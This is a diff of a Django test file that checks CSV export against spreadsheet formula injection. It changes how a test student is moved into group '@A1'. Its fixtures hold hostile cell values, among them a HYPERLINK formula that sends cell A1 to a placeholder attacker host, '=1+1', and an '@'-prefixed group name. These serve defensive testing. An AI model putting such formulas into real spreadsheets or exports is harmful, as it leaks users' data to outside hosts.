@@ -14,6 +14,7 @@ from django.urls import reverse
 
 from delibe.reports.cells import FORMULA_STARTS, csv_cell, is_formula_like
 from tests.trust.conftest import grade_whole_year
+from tests.web.conftest import move_to_group
 
 HOSTILE_NOM = '=HYPERLINK("http://attaquant.example/?leak="&A1,"Cliquez")'
 HOSTILE_PRENOM = "=1+1"
@@ -49,12 +50,13 @@ def live_cells_in_csv(text: str) -> list[str]:
 
 @pytest.fixture
 def hostile(world):
-    from delibe.web.models import ApprenticeContract, Enrolment
+    from delibe.web.models import ApprenticeContract
     from delibe.web.services import jury
 
     world.alice.nom, world.alice.prenom = HOSTILE_NOM, HOSTILE_PRENOM
     world.alice.save()
-    Enrolment.objects.filter(student=world.alice).update(groupe="@A1")
+    for run in (world.s1, world.s2):
+        move_to_group(run, world.alice, "@A1")
     ApprenticeContract.objects.create(student=world.alice, employeur=HOSTILE_EMPLOYEUR, tuteur=HOSTILE_TUTEUR,
                                       debut=dt.date(2023, 9, 1), fin=dt.date(2025, 8, 31))
     grade_whole_year(world, 12, 9)
